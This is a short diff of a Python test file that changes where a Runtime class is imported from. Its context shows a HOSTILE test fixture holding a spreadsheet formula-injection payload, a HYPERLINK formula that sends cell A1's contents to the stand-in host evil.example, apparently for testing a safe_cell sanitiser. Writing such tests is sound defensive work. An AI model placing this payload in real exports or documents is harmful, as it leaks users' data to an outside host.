@@ -13,10 +13,10 @@ from sqlalchemy import insert
 
 from api.app import create_app
 from api.ar_metrics import safe_cell
-from api.runtime import Runtime
 from ledger.db import transaction
 from ledger.models import Customer, Invoice
 from ledger.repositories import api_keys
+from workflows.runtime import Runtime
 
 HOSTILE = {
     "C1": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
